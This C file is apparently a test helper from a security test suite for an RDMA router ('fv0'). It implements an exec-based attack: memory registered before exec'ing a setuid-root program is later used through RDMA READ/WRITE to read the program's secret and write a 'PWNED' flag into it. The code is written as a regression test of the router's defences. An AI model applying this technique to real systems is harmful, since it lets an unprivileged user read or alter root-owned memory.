/*
 * fv_exec_attacker.c: the exec attack of tests/security.rs, run as an
 * unprivileged user against a router running as root.
 *
 * Usage: fv_exec_attacker VICTIM SECRET_FILE SECRET_ADDR FLAG_ADDR
 *
 * 1. Process P opens fv0 (session A), makes QPs, maps pages of its own at
 *    the victim's SECRET_ADDR and FLAG_ADDR and registers them (before the
 *    exec, so the router accepted them as P's memory).
 * 2. P forks a helper H, which keeps session A's sockets and objects, and
 *    execs VICTIM, a setuid-root program: same pid, new address space,
 *    root's credentials.
 * 3. Once the victim runs, H registers the victim's secret page through
 *    session A (and an unmapped address, to compare the answers), opens a
 *    session of its own (B), connects QPs of A to QPs of B and posts, on
 *    B: an RDMA READ of the secret and an RDMA WRITE of the flag, through
 *    A's keys.
 *
 * H prints one line per attempt ("read ...: status N bytes HEX", "write
 * ...: status N", "post-exec reg_mr ...: ok|errno N"); the test decides
 * what they mean. Exits 0 when every step could be attempted.
 */
#define _GNU_SOURCE
#include <infiniband/verbs.h>

#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "fv_test_util.h"
#include "fv_completions.h"

#define NQP 3
#define ACCESS (IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_READ | IBV_ACCESS_REMOTE_WRITE)

static void die(const char *what)
{
	fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
	fflush(stderr);
	_exit(2);
}

static struct ibv_context *open_fv0(void)
{
	struct ibv_context *ctx = open_device_named("fv0");
	if (!ctx)
		die("opening fv0");
	return ctx;
}

static struct ibv_qp *rc_qp(struct ibv_pd *pd, struct ibv_cq *cq)
{
	static const struct qp_cfg c = { .send_wr = 4, .recv_wr = 4, .send_sge = 1, .recv_sge = 1,
					 .sig_all = 1 };
	struct ibv_qp *qp = qp_try_create(pd, IBV_QPT_RC, cq, cq, NULL, &c, NULL);
	if (!qp)
		die("ibv_create_qp");
	return qp;
}

/* RESET -> INIT -> RTR -> RTS towards dest_qpn on this host (no GRH), one retry. */
static void connect_qp(struct ibv_qp *qp, uint32_t dest_qpn)
{
	const char *failed = "";
	int rc = rc_connect_local(qp, dest_qpn, ACCESS, 1, &failed);
	if (rc) {
		errno = rc;
		die(failed);
	}
}

/* Posts one RDMA op on qp and waits (15 s) for its completion status; -1: none came. */
static int rdma(struct ibv_qp *qp, struct ibv_cq *cq, enum ibv_wr_opcode op, void *local,
		uint32_t len, uint32_t lkey, uint64_t remote, uint32_t rkey)
{
	struct ibv_sge s = sge(local, len, lkey);
	struct ibv_send_wr wr;
	const char *failed = "";
	wr_init(&wr, 1, op, &s, 1, 0);
	wr_remote(&wr, remote, rkey, 0, 0);
	int status = post_and_wait(qp, &wr, cq, 15, &failed);
	if (status == -2)
		die(failed);
	return status;
}

static void hex(const uint8_t *p, size_t n, char *out)
{
	for (size_t i = 0; i < n; i++)
		sprintf(out + 2 * i, "%02x", p[i]);
}

static void *page_at(uint64_t addr)
{
	void *want = (void *)(uintptr_t)(addr & ~4095ULL);
	void *p = mmap(want, 4096, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (p != want)
		die("mapping a page at the victim's address");
	memset(p, 'A', 4096);
	return p;
}

int main(int argc, char **argv)
{
	if (argc != 5) {
		fprintf(stderr, "usage: %s VICTIM SECRET_FILE SECRET_ADDR FLAG_ADDR\n", argv[0]);
		return 2;
	}
	uint64_t secret_addr = strtoull(argv[3], NULL, 0);
	uint64_t flag_addr = strtoull(argv[4], NULL, 0);

	struct ibv_context *ctx_a = open_fv0();
	struct ibv_pd *pd_a = ibv_alloc_pd(ctx_a);
	struct ibv_cq *cq_a = ibv_create_cq(ctx_a, 16, NULL, NULL, 0);
	if (!pd_a || !cq_a)
		die("PD/CQ of session A");
	struct ibv_qp *qa[NQP];
	for (int i = 0; i < NQP; i++)
		qa[i] = rc_qp(pd_a, cq_a);
	page_at(secret_addr);
	page_at(flag_addr);
	struct ibv_mr *mr_secret = ibv_reg_mr(pd_a, (void *)(uintptr_t)secret_addr, 64, ACCESS);
	struct ibv_mr *mr_flag = ibv_reg_mr(pd_a, (void *)(uintptr_t)flag_addr, 64, ACCESS);
	if (!mr_secret || !mr_flag)
		die("registering P's own pages");

	int ready[2];
	if (pipe(ready))
		die("pipe");
	pid_t h = fork();
	if (h < 0)
		die("fork");
	if (h > 0) {
		/* P: become the victim (same pid, new program, root). */
		close(ready[0]);
		if (dup2(ready[1], 3) < 0)
			die("dup2");
		execl(argv[1], argv[1], argv[2], (char *)NULL);
		die("exec of the victim");
	}

	/* H: wait until P runs the victim. */
	close(ready[1]);
	struct pollfd pfd = {.fd = ready[0], .events = POLLIN};
	char c;
	if (poll(&pfd, 1, 20000) != 1 || read(ready[0], &c, 1) != 1)
		die("waiting for the victim");
	pid_t victim = getppid();
	printf("attacker: uid=%d, victim pid %d runs\n", (int)getuid(), (int)victim);

	/* Registrations through session A, after the exec. */
	struct ibv_mr *mr_post = ibv_reg_mr(pd_a, (void *)(uintptr_t)secret_addr, 64, ACCESS);
	int post_errno = mr_post ? 0 : errno;
	struct ibv_mr *mr_unmapped = ibv_reg_mr(pd_a, (void *)(uintptr_t)0x10000, 64, ACCESS);
	int unmapped_errno = mr_unmapped ? 0 : errno;
	printf("post-exec reg_mr mapped: %s errno %d\n", mr_post ? "ok" : "refused", post_errno);
	printf("post-exec reg_mr unmapped: %s errno %d\n", mr_unmapped ? "ok" : "refused",
	       unmapped_errno);

	/* Session B: H's own. */
	struct ibv_context *ctx_b = open_fv0();
	struct ibv_pd *pd_b = ibv_alloc_pd(ctx_b);
	struct ibv_cq *cq_b = ibv_create_cq(ctx_b, 16, NULL, NULL, 0);
	uint8_t *buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (!pd_b || !cq_b || buf == MAP_FAILED)
		die("PD/CQ/buffer of session B");
	struct ibv_mr *mr_b = ibv_reg_mr(pd_b, buf, 4096, ACCESS);
	if (!mr_b)
		die("registering B's buffer");
	struct ibv_qp *qb[NQP];
	for (int i = 0; i < NQP; i++) {
		qb[i] = rc_qp(pd_b, cq_b);
		connect_qp(qa[i], qb[i]->qp_num);
		connect_qp(qb[i], qa[i]->qp_num);
	}

	char text[2 * 32 + 1];
	memset(buf, 0, 4096);
	int st = rdma(qb[0], cq_b, IBV_WR_RDMA_READ, buf, 32, mr_b->lkey, secret_addr,
		      mr_secret->rkey);
	hex(buf, 32, text);
	printf("read (key registered before the exec): status %d bytes %s\n", st, text);

	strcpy((char *)buf, "PWNED through fv0");
	st = rdma(qb[1], cq_b, IBV_WR_RDMA_WRITE, buf, 18, mr_b->lkey, flag_addr, mr_flag->rkey);
	printf("write (key registered before the exec): status %d\n", st);

	if (mr_post) {
		memset(buf, 0, 4096);
		st = rdma(qb[2], cq_b, IBV_WR_RDMA_READ, buf, 32, mr_b->lkey, secret_addr,
			  mr_post->rkey);
		hex(buf, 32, text);
		printf("read (key registered after the exec): status %d bytes %s\n", st, text);
	}
	/* Said before the victim is told to go: once it exits, the test
	 * harness may end this helper with it. */
	printf("attacker: done\n");
	fflush(stdout);
	kill(victim, SIGUSR1);
	return 0;
}
